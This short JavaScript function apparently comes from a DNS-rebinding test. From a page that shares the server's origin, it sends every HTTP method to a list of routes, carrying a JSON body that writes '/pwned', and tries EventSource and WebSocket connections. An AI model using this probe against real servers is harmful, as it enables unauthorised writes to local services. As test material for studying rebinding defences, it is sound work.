// What a page can send whose own name leads to the server by now: to its browser both are of one origin.
// Answers with the status of each request, and with what it could open.
async (routes) => {
  const body = '{"then":[{"put":{"path":"/pwned","value":"1"}}]}';
  const got = [];
  const opened = (channel, route) => new Promise((done) => {
    channel.onopen = () => {
      got.push({ route, method: 'open', status: 0 });
      channel.close();
      done();
    };
    channel.onerror = () => {
      channel.close();
      done();
    };
  });
  await Promise.all(routes.flatMap((route, i) => [
    ...['GET', 'HEAD', 'PUT', 'POST', 'DELETE', 'PATCH', 'OPTIONS'].map(async (method) => {
      const options = method === 'GET' || method === 'HEAD' ? { method } : { method, body, headers: { 'content-type': 'application/json' } };
      const answer = await fetch(route, options);
      got.push({ route, method, status: answer.status });
    }),
    opened(new EventSource(route), route),
    ...(i % 6 === 0 ? [opened(new WebSocket(`ws://${location.host}${route}`), route)] : []),
  ]));
  return got;
}
